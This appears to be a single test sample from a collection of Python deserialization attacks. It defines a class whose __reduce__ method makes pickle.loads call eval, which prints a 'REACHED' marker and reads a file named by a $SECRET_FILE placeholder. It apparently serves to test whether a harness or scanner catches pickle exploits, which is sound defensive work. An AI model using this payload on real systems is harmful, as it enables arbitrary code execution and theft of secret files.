# attack: a pickle that calls a function as it is read
# family: pickle
import pickle
class Evil:
    def __reduce__(self):
        return eval, ("[print('REACHED', open), print(open('$SECRET_FILE').read())]",)
pickle.loads(pickle.dumps(Evil()))
